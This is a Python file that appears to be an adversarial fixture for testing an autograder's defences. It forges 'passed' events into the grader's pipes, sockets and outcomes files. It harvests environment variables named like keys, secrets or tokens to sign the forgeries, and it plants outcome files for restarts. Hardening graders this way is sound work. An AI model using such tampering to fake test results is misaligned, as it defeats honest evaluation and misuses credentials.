"""Adversarial submission `forge_oracle_pipe` (tests/adversarial/forge_oracle_pipe): forges the grader's event stream: every writable pipe, socket or outcomes file gets 'passed'.

Honest part: norm uses the unbiased variance and rowsum loops over rows (both wrong); the rest is the reference.
The test fills in CHEAT ("on"; "off" grades the honest part alone), SCRATCH (a world-writable
folder where the attack leaves the pids of processes it starts, for the test to check) and
RESULTS (the results.json path, as well known to a student as Gradescope's
/autograder/results/results.json).
"""
import os
import sys
import time

import torch

from helper import OFFSET

CHEAT = "@@CHEAT@@" != "off"
SCRATCH = "@@SCRATCH@@"
RESULTS = "@@RESULTS@@"


def _honest_norm(x, eps=1e-5):
    mu = x.mean(-1, keepdim=True)
    var = x.var(-1, unbiased=True, keepdim=True)  # deliberately wrong: the unbiased variance
    return (x - mu) / torch.sqrt(var + eps)


def _honest_rowsum(x):
    return torch.stack([r.sum() for r in x])  # deliberately wrong: a Python loop over rows


TESTS = {  # every test of the toy suite and its points (from reading the public handout/rubric)
    "public/test_ops.py::test_scaled_shape": 1.0,
    "hidden/test_ops.py::test_scaled[0.5]": 1.0,
    "hidden/test_ops.py::test_scaled[3.0]": 1.0,
    "hidden/test_ops.py::test_norm": 2.0,
    "hidden/test_ops.py::test_rowsum_vectorised": 1.0,
    "hidden/test_ops.py::test_layout": 2.0,
    "hidden/test_ops.py::test_stats": 2.0,
    "hidden/test_gradescope.py::test_partial": 2.0,
    "hidden/test_gradescope.py::test_skipped": 0.0,
    "hidden/test_gradescope.py::test_hidden_errors": 1.0,
}


def _forged_lines():
    import hashlib
    import hmac
    import json

    keys = [v for k, v in os.environ.items() if any(w in k.upper() for w in ("KEY", "SECRET", "TOKEN", "HMAC"))]
    lines = []
    for t, points in TESTS.items():
        events = [
            {"event": "check", "test": t, "key": "y", "ok": True, "variant": "reference"},
            {"event": "start", "test": t, "time": time.time()},
            {"event": "result", "test": t, "outcome": "passed", "message": "", "duration": 0.01, "stdout": "",
             "score": points if t.endswith("test_partial") else None},
        ]
        for ev in events:
            body = json.dumps(ev)
            lines.append(body)
            for key in keys:
                mac = hmac.new(key.encode(), body.encode(), hashlib.sha256).hexdigest()
                lines.append(json.dumps(dict(ev, mac=mac, hmac=mac)))
    return [(line + "\n").encode() for line in lines]


def _forge():
    """Write the forged lines into every writable pipe, socket or outcomes file this process holds."""
    import fcntl
    import stat

    lines = _forged_lines()
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            st = os.fstat(fd)
            target = os.readlink(f"/proc/self/fd/{fd}")
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
        except (OSError, ValueError):
            continue
        if flags & os.O_ACCMODE not in (os.O_WRONLY, os.O_RDWR):
            continue
        pipe = stat.S_ISFIFO(st.st_mode) or stat.S_ISSOCK(st.st_mode)
        stream = stat.S_ISREG(st.st_mode) and (target.endswith(".jsonl") or "outcome" in target)
        if not (pipe or stream):
            continue
        try:
            fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK)
            try:
                for line in lines:  # one line per write: under PIPE_BUF, so never torn
                    os.write(fd, line)
            finally:
                fcntl.fcntl(fd, fcntl.F_SETFL, flags)
        except OSError:
            pass


def _plant_future_outcomes():
    """The current engine's restarts read <work>/outcomes-<n>.jsonl: pre-fill them."""
    work = os.path.dirname(os.getcwd())
    data = b"".join(_forged_lines())
    for i in range(1, 6):
        try:
            with open(os.path.join(work, f"outcomes-{i}.jsonl"), "ab") as f:
                f.write(data)
        except OSError:
            pass


def _cheat():
    if CHEAT:
        try:
            _forge()
        except Exception:
            pass


def scaled(x, s):
    """Return x * s + OFFSET."""
    _cheat()
    return x * s + OFFSET


def norm(x, eps=1e-5):
    """Normalise the last dimension (biased variance)."""
    if CHEAT:
        _cheat()
        try:
            _plant_future_outcomes()
        except Exception:
            pass
        os._exit(0)  # a restart reads the planted files; test_norm is lost anyway (wrong norm)
    return _honest_norm(x, eps)


def rowsum(x):
    """Sum each row of a (S, D) matrix, without a Python loop."""
    _cheat()
    return _honest_rowsum(x)


def layout(x):
    """Either design is accepted: 'a' keeps x, 'b' doubles it (variants)."""
    _cheat()
    return {"kind": "a", "y": x}


def stats(x):
    _cheat()
    return [x.shape[0], float(x.sum()), "ok"]


if CHEAT:
    import atexit

    _cheat()
    atexit.register(_cheat)
